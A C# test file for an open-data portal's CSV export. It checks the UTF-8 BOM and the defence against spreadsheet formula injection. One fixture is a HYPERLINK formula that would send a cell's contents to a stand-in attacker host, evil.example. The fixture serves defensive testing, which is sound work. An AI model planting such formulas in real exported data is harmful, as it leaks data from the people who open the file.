using System.Text;
using Portal.OpenData;

namespace Portal.Tests.OpenData;

/// <summary>
/// data/partners.csv is opened in Excel and LibreOffice by residents and journalists. It is UTF-8 with a BOM, so Excel
/// reads "Umeå" and not "UmeÃ¥", and no cell can run as a formula (OWASP "CSV Injection"): a name that begins like
/// one is refused at its key, and the writer neutralises any other text that would, as a second line.
/// </summary>
public sealed class SpreadsheetSafetyTests
{
    private static string Formula(string path, int line, int column, string key, char first) =>
        $"{path}:{line}:{column}: error PT0047: '{key}' begins with '{first}', which a spreadsheet program runs as a formula when it opens the open data (data/partners.csv); write the {key} without it";

    [Test]
    public void The_CSV_starts_with_a_BOM_and_holds_the_names_in_UTF8()
    {
        using var content = new TempContent();
        content.WithLine("partners/huddinge/vanda.md", 2, "name: Umeå-Vanda");

        var bytes = File.ReadAllBytes(Path.Combine(content.Build().AssertClean().OutputDirectory, "data", "partners.csv"));

        Assert.That(bytes.Take(3), Is.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }));
        Assert.That(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3), Does.StartWith("municipality,").And.Contain(",Umeå-Vanda,"));
    }

    [Test]
    public void The_JSON_and_GeoJSON_have_no_BOM()
    {
        using var content = new TempContent();
        var run = content.Build().AssertClean();

        Assert.That(run.ReadText("data/partners.json")[0], Is.EqualTo('['));
        Assert.That(run.ReadText("data/partners.geojson")[0], Is.EqualTo('{'));
    }

    [Test]
    public void Names_that_begin_like_a_formula_are_errors_at_their_values()
    {
        using var content = new TempContent();
        content.WithLine("partners/huddinge/vanda.md", 2, "name: '=HYPERLINK(\"https://evil.example/?\"&A1;\"Vanda\")'")
            .WithLine("partners/huddinge/vanda.md", 3, "localName: \"+Vantaa\"\nregion: \"@Nyland\"")
            .WithLine("municipalities/vanersborg.md", 2, "name: \"-Vänersborg\"");

        var run = content.Build();

        Assert.That(run.Lines, Is.EqualTo(new[]
        {
            Formula("municipalities/vanersborg.md", 2, 7, "name", '-'),
            Formula("partners/huddinge/vanda.md", 2, 7, "name", '='),
            Formula("partners/huddinge/vanda.md", 3, 12, "localName", '+'),
            Formula("partners/huddinge/vanda.md", 4, 9, "region", '@'),
        }));
        Assert.That(run.Result.Succeeded, Is.False);
    }

    [Test]
    public void A_hyphen_inside_a_name_is_text()
    {
        using var content = new TempContent();
        content.WithLine("partners/huddinge/vanda.md", 2, "name: Vanda-Vantaa");

        content.Build().AssertClean();
    }

    [TestCase("=1+1", "'=1+1")]
    [TestCase("+46 8 123 45", "'+46 8 123 45")]
    [TestCase("-Nord", "'-Nord")]
    [TestCase("@SUM(A1)", "'@SUM(A1)")]
    [TestCase("\t=1", "'\t=1")]
    [TestCase("\r=1", "'\r=1")]
    [TestCase("-70.123456", "-70.123456")]
    [TestCase("-0.5", "-0.5")]
    [TestCase("Umeå", "Umeå")]
    [TestCase("", "")]
    public void The_writer_neutralises_any_cell_that_would_run_and_keeps_numbers(string cell, string written) =>
        Assert.That(SpreadsheetFormula.Neutralise(cell), Is.EqualTo(written));

    [Test]
    public void A_negative_longitude_is_written_as_a_number()
    {
        using var content = new TempContent();
        content.WithLine("partners/huddinge/vanda.md", 4, "country: US")
            .WithLine("partners/huddinge/vanda.md", 5, "location: {lat: 40.71, lon: -74.01}")
            .Without("countries/fi.md");

        var run = content.Build();

        Assert.That(run.Result.Succeeded, Is.True, run.Report);
        var csv = run.ReadText("data/partners.csv");
        Assert.That(csv, Does.Contain(",40.71,-74.01,"));
    }
}
